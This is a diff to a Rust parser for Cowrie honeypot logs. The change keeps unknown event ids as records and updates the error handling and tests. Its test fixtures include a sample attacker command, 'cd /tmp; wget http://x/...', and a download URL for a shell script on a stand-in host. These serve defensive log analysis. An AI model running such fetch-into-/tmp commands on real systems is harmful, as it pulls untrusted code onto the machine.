@@ -12,6 +12,7 @@ use std::net::IpAddr;
 use serde::Deserialize;
 
 use super::{parse_ip, syslog, AuthMethod, Event};
+use crate::error::{Error, Result};
 
 /// One Cowrie event, read.
 #[derive(Debug, Clone, PartialEq)]
@@ -26,8 +27,9 @@ pub struct Record<'a> {
     pub ip: Option<IpAddr>,
     /// `ssh` or `telnet`, when the event says.
     pub protocol: Option<Cow<'a, str>>,
-    /// What it means.
-    pub event: Event<'a>,
+    /// What it means; `None` for an event id this parser does not know
+    /// (the caller counts it by [`Record::event_id`]).
+    pub event: Option<Event<'a>>,
 }
 
 #[derive(Deserialize)]
@@ -84,18 +86,11 @@ struct Raw<'a> {
     duration_ms: Option<Number<'a>>,
 }
 
-/// Errors reading one Cowrie line.
-#[derive(Debug, Clone, PartialEq, Eq)]
-pub enum CowrieError {
-    /// Not JSON, or no `eventid`.
-    NotCowrie,
-    /// An event this parser does not know (counted by id).
-    UnknownEvent,
-}
-
-/// Parses one Cowrie JSON line.
-pub fn parse(line: &str) -> Result<Record<'_>, CowrieError> {
-    let raw: Raw<'_> = serde_json::from_str(line).map_err(|_| CowrieError::NotCowrie)?;
+/// Parses one Cowrie JSON line; a line that is not a JSON object with a
+/// string `eventid` is an error.
+pub fn parse(line: &str) -> Result<Record<'_>> {
+    let raw: Raw<'_> =
+        serde_json::from_str(line).map_err(|e| Error::LogRecord { format: "cowrie", detail: e.to_string() })?;
     let ts_ms = raw
         .timestamp
         .as_deref()
@@ -103,7 +98,7 @@ pub fn parse(line: &str) -> Result<Record<'_>, CowrieError> {
         .map(|(t, _)| t.to_unix_ms(t.year.unwrap_or(1970), 0));
     let ip = raw.src_ip.as_deref().and_then(parse_ip);
     let id = raw.eventid.as_ref();
-    let event = match id.strip_prefix("cowrie.").unwrap_or(id) {
+    let event = Some(match id.strip_prefix("cowrie.").unwrap_or(id) {
         "session.connect" => ip.map_or(Event::Noise, |ip| Event::Connected { ip }),
         "login.failed" => Event::AuthFailed { user: raw.username, ip, invalid_user: false, count: 1, tentative: false },
         "login.success" => {
@@ -143,8 +138,17 @@ pub fn parse(line: &str) -> Result<Record<'_>, CowrieError> {
         | "login.attempt"
         | "virustotal.scanfile"
         | "virustotal.scanurl" => Event::Noise,
-        _ => return Err(CowrieError::UnknownEvent),
-    };
+        _ => {
+            return Ok(Record {
+                event_id: raw.eventid,
+                ts_ms,
+                session: raw.session,
+                ip,
+                protocol: raw.protocol,
+                event: None,
+            })
+        }
+    });
     Ok(Record { event_id: raw.eventid, ts_ms, session: raw.session, ip, protocol: raw.protocol, event })
 }
 
@@ -158,7 +162,7 @@ mod tests {
         let new = r#"{"eventid":"cowrie.session.closed","duration_ms":8486,"timestamp":"2026-07-10T01:01:45.568278Z","src_ip":"122.36.187.5","session":"3e69b5b3b281","protocol":"telnet"}"#;
         let text = r#"{"eventid":"cowrie.session.closed","duration":"12.5","session":"s"}"#;
         let text_ms = r#"{"eventid":"cowrie.session.closed","duration_ms":"250","session":"s"}"#;
-        let secs = |l| match parse(l).unwrap().event {
+        let secs = |l| match parse(l).unwrap().event.unwrap() {
             Event::SessionClosed { duration_secs, .. } => duration_secs,
             e => panic!("{e:?}"),
         };
@@ -171,7 +175,7 @@ mod tests {
         assert_eq!(r.session.as_deref(), Some("524e0ff18104"));
         assert_eq!(
             parse(r#"{"eventid":"cowrie.session.closed","duration":-3}"#).unwrap().event,
-            Event::SessionClosed { user: None, duration_secs: None }
+            Some(Event::SessionClosed { user: None, duration_secs: None })
         );
     }
 
@@ -183,19 +187,19 @@ mod tests {
         .unwrap();
         assert_eq!(
             r.event,
-            Event::Accepted { user: "root".into(), ip: "1.2.3.4".parse().ok(), method: AuthMethod::Password }
+            Some(Event::Accepted { user: "root".into(), ip: "1.2.3.4".parse().ok(), method: AuthMethod::Password })
         );
         let r = parse(r#"{"eventid":"cowrie.command.input","input":"cd /tmp; wget http://x/\"a\"","session":"a"}"#)
             .unwrap();
-        assert_eq!(r.event, Event::Command { user: None, command: "cd /tmp; wget http://x/\"a\"".into() });
+        assert_eq!(r.event.unwrap(), Event::Command { user: None, command: "cd /tmp; wget http://x/\"a\"".into() });
         let r = parse(r#"{"eventid":"cowrie.session.file_download","url":"http://x/a.sh","session":"a"}"#).unwrap();
-        assert_eq!(r.event, Event::Download { url: "http://x/a.sh".into() });
+        assert_eq!(r.event.unwrap(), Event::Download { url: "http://x/a.sh".into() });
         assert!(matches!(
             parse(r#"{"eventid":"cowrie.login.failed","username":"admin","src_ip":"::1"}"#).unwrap().event,
-            Event::AuthFailed { .. }
+            Some(Event::AuthFailed { .. })
         ));
-        assert_eq!(parse(r#"{"eventid":"cowrie.brand.new"}"#), Err(CowrieError::UnknownEvent));
-        assert_eq!(parse("{not json"), Err(CowrieError::NotCowrie));
-        assert_eq!(parse(r#"{"eventid": 3}"#), Err(CowrieError::NotCowrie));
+        assert_eq!(parse(r#"{"eventid":"cowrie.brand.new"}"#).unwrap().event, None);
+        assert!(parse("{not json").unwrap_err().to_string().starts_with("cowrie record: "));
+        assert!(parse(r#"{"eventid": 3}"#).is_err());
     }
 }
